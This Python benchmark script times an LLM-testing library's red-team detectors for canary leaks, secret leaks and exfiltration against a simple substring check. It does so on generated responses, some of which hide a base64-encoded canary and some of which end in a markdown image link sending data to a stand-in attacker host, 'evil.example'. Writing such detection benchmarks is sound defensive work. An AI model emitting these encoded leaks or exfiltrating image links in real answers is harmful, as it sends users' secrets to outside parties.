"""The red-team detectors' cost per response, against the substring test a user would write.

canary_not_leaked, secret_not_leaked and no_exfiltration each look at a response in many forms
(base64, rot13, hex, separated, leetspeak...; every URL); the baseline is `not_contains` of
the same string (or ``"](http" not in text``), which sees only the plain form. Responses are a
reproducible mix of answers (refusals, prose with links, JSON, a leak now and then), short and
long. Each side is timed in CPU time of this process, taking turns each repeat.
Run: .venv/bin/python benchmarks/detectors.py [--responses N] [--repeats N]
"""

from __future__ import annotations

import argparse
import base64
import random
import time
from collections.abc import Callable

from promptum import Completion
from promptum.checks import CANARY, CheckDefinition

TOKEN = "qzvkdprmxwtbhjncsfay"
WORDS = [
    "the",
    "order",
    "ships",
    "on",
    "Monday",
    "refund",
    "policy",
    "is",
    "14",
    "days",
    "see",
    "https://help.example.org/returns",
    "for",
    "details",
    "thanks",
    "your",
    "account",
    "ACC-1001",
    "was",
    "updated",
]


def responses(count: int) -> list[Completion]:
    """Answers of 20 to 2,000 words; one in ten leaks the canary in some form."""
    rng = random.Random(7)
    made = []
    for index in range(count):
        words = [rng.choice(WORDS) for _ in range(rng.choice((20, 100, 400, 2000)))]
        if index % 10 == 0:
            words.insert(len(words) // 2, base64.b64encode(TOKEN.encode()).decode())
        if index % 7 == 0:
            words.append(f"![x](https://evil.example/p.png?d={index})")
        made.append(Completion(text=" ".join(words)))
    return made


def timed(run: Callable[[Completion], object], completions: list[Completion]) -> float:
    start = time.process_time()
    for completion in completions:
        run(completion)
    return time.process_time() - start


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--responses", type=int, default=2_000)
    parser.add_argument("--repeats", type=int, default=3)
    options = parser.parse_args()
    completions = responses(options.responses)
    canary = CheckDefinition.model_validate(
        {"type": "canary_not_leaked", "value": TOKEN}, context={CANARY: TOKEN}
    )
    sides = {
        "canary_not_leaked": canary.compiled,
        "secret_not_leaked": CheckDefinition(
            type="secret_not_leaked", value=["Larkspur Components", "ACCT-4417-2290"]
        ).compiled,
        "no_exfiltration": CheckDefinition(
            type="no_exfiltration", value=["shop.example.com"]
        ).compiled,
        "not_contains (baseline)": CheckDefinition(type="not_contains", value=TOKEN).compiled,
    }
    best = dict.fromkeys(sides, float("inf"))
    for _ in range(options.repeats):
        for name, run in sides.items():
            best[name] = min(best[name], timed(run, completions))
    characters = sum(len(c.text) for c in completions)
    baseline = best["not_contains (baseline)"]
    print(f"{len(completions):,} responses, {characters / len(completions):,.0f} characters each")
    for name, seconds in best.items():
        per = seconds / len(completions) * 1e6
        print(f"{name:<24} {per:>9.1f} µs/response  {seconds / baseline:>8.0f}x the baseline")


if __name__ == "__main__":
    main()
